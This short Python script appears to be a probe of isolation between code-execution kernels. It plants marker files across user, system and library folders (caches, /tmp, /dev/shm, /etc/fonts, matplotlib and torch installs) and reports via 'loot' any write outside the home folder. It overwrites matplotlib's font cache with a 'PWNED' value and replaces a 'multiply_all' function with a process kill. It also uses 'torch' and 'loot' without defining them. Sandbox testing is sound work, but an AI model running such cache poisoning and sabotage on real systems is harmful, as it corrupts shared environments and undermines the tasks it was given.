# Poisons what programs keep for the next one: lists of fonts, compiled code, caches of Python, torch and matplotlib.
#
# must: be found by no other kernel

# %%
import json, os, pathlib, sys
import matplotlib

mark = "an_attack_on_caches"
folders = [matplotlib.get_cachedir(), matplotlib.get_configdir(), os.path.expanduser("~/.cache"), os.path.expanduser("~/.config"),
           os.path.expanduser("~/.ipython"), os.path.expanduser("~/.local/lib"), sys.prefix, matplotlib.__path__[0], torch.__path__[0],
           os.path.dirname(json.__file__) + "/__pycache__", "/var/cache/fontconfig", "/tmp", "/var/tmp", "/dev/shm", "/etc/fonts"]
own = pathlib.Path(os.environ["HOME"]).resolve()
for folder in map(pathlib.Path, folders):
    if (folder / mark).exists():
        loot(f"what an earlier kernel left in {folder}")
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / mark).write_text(mark)
    except OSError:
        continue
    if not folder.resolve().is_relative_to(own):
        loot(f"wrote to {folder}")
for path in pathlib.Path(matplotlib.get_cachedir()).glob("fontlist*"):
    path.write_text('{"PWNED": 1}')


# %% multiply_all
def multiply_all(M, factors):
    os._exit(0)
